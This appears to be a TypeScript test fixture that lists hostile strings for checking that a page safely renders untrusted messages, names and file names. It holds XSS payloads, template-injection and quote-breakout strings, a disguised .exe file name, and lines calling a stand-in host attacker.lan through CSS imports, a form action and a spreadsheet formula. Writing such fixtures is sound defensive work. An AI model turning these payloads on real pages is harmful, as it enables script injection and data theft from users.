/** What the texts try to run in the console. Its stories count the calls. */
const HARM = 'harmed("ran")';

/** Texts that strangers can send as a message, a name or a file name to attack the page that shows them. */
export const hostileTexts: readonly string[] = [
  `<script>${HARM}</script>`,
  `<img src=x onerror='${HARM}'>`,
  `"><svg onload='${HARM}'>`,
  `javascript:${HARM}`,
  `<a href='javascript:${HARM}'>press</a>`,
  `<iframe srcdoc="<script>parent.${HARM.replaceAll('"', "'")}</script>"></iframe>`,
  `<style>@import url(//attacker.lan/x.css)</style><link rel=stylesheet href=//attacker.lan/x.css>`,
  `\${${HARM}} {{constructor.constructor('${HARM}')()}} <%= ${HARM} %>`,
  `</pre></td></table><form action=//attacker.lan><input autofocus onfocus='${HARM}'>`,
  `data:text/html,<script>${HARM}</script>`,
  `'; ${HARM}; // "; ${HARM}; //`,
  'photo\u202egpj.exe\u2066 \u200b\u0001\u0085\u2028',
  '=HYPERLINK("//attacker.lan")',
  `${'\u0301'.repeat(500)} ${'\u{1f468}\u200d'.repeat(200)}`,
  'x'.repeat(10_000),
];
